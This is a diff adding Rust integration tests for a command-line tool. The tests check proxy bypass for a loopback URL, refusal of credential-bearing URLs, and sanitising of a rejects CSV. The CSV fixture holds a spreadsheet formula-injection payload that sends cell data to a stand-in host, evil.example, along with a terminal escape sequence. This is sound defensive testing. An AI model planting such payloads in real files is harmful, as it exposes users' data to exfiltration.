@@ -1,0 +1,113 @@
+//! Hostile surroundings (issue 39), through the real binary: a proxy in the environment, a
+//! base URL carrying credentials. One test per promise.
+
+use std::io::Read;
+use std::net::TcpListener;
+use std::time::Duration;
+
+use crate::apply::sample;
+use crate::util::{Emu, KEY, Run};
+
+/// A listener that records what reaches it: a proxy that must see nothing.
+struct Trap {
+    listener: TcpListener,
+}
+
+impl Trap {
+    fn new() -> Trap {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.set_nonblocking(true).unwrap();
+        Trap { listener }
+    }
+
+    fn url(&self) -> String {
+        format!("http://{}", self.listener.local_addr().unwrap())
+    }
+
+    /// Everything sent to it so far (each connection read for a moment).
+    fn seen(&self) -> String {
+        let mut all = String::new();
+        while let Ok((mut conn, _)) = self.listener.accept() {
+            conn.set_nonblocking(false).unwrap();
+            conn.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
+            let mut buf = [0u8; 4096];
+            let n = conn.read(&mut buf).unwrap_or(0);
+            all.push_str(&String::from_utf8_lossy(&buf[..n]));
+            all.push_str("\n--\n");
+        }
+        all
+    }
+}
+
+/// With every proxy variable pointing at a listener, a run against the loopback emulator goes
+/// straight to it: the proxy gets no connection, and so never the key in clear.
+#[test]
+fn a_loopback_base_url_never_goes_through_a_proxy() {
+    let (w, emu, trap) = (sample(), Emu::start(), Trap::new());
+    let run = |args: &[&str]| -> Run {
+        let mut cmd = w.command(args);
+        for var in ["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"] {
+            cmd.env(var, trap.url());
+        }
+        cmd.env_remove("NO_PROXY").env_remove("no_proxy");
+        let out = cmd.env("TELEMETRON_BASE_URL", &emu.base_url).env("TELEMETRON_API_KEY", KEY).output().unwrap();
+        Run {
+            code: out.status.code().unwrap_or(-1),
+            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+        }
+    };
+    let day1 = ["apply", "--config", "sample-data/config.toml", "--input-dir", "sample-data/day1", "--state", "s.db"];
+    let applied = run(&[&day1[..], &["--timeout", "3", "--max-retries", "0"]].concat());
+    let seen = trap.seen();
+    assert!(seen.is_empty(), "the proxy saw:\n{seen}");
+    assert_eq!(applied.code, 0, "{}", applied.stderr);
+    let query = run(&["customer", "query", "amanda.thompson@example.com", "--timeout", "3"]);
+    assert_eq!(query.code, 0, "{}", query.stderr);
+    assert!(trap.seen().is_empty());
+}
+
+/// A base URL with `user:password@` is refused before anything is sent, and neither part is
+/// echoed anywhere.
+#[test]
+fn a_base_url_with_credentials_is_refused_and_never_shown() {
+    let (w, emu) = (sample(), Emu::start());
+    let with_credentials = emu.base_url.replace("http://", "http://ann:s3cret-pw@");
+    for args in [
+        &["apply", "--config", "sample-data/config.toml", "--input-dir", "sample-data/day1", "--state", "s.db"][..],
+        &["customer", "query", "a@x.io"][..],
+    ] {
+        let run = w.run_at(&with_credentials, KEY, args);
+        assert_ne!(run.code, 0, "{args:?}");
+        assert!(run.stderr.contains("user name or password"), "{args:?}: {}", run.stderr);
+        assert!(!format!("{}{}", run.stdout, run.stderr).contains("s3cret-pw"), "{args:?}: {}", run.stderr);
+        assert!(!run.stderr.contains("ann:"), "{}", run.stderr);
+    }
+    assert!(emu.emulator.requests().is_empty(), "nothing was sent");
+}
+
+/// The rejects file is made to be opened in a spreadsheet: no cell of it is a live formula, and
+/// no control character of the export (a terminal escape) survives in it.
+#[test]
+fn the_rejects_file_holds_no_formula_and_no_control_character() {
+    let w = crate::util::Workdir::new();
+    w.write(
+        "customers.csv",
+        "email,name\na@x.io,Ann\n\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&B2,\"\"Click\"\")\",Eve\n+cmd@x,Plus\n@SUM(1),At\nb@x.io,\"\u{1b}]0;pwned\u{7}Bob\"\n-2+3,Minus\n",
+    );
+    let run = w.run(&["plan", "--customers", "customers.csv", "--state", "s.db", "--rejects", "r.csv"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let text = w.read("r.csv");
+    assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "{text:?}");
+    let mut rows = csv::Reader::from_reader(text.as_bytes());
+    let mut n = 0;
+    for row in rows.records() {
+        let row = row.unwrap();
+        n += 1;
+        for cell in row.iter() {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a live cell: {cell:?}");
+        }
+    }
+    assert_eq!(n, 5, "{text}");
+    assert!(text.contains("'=HYPERLINK("), "the formula is kept as text: {text}");
+}
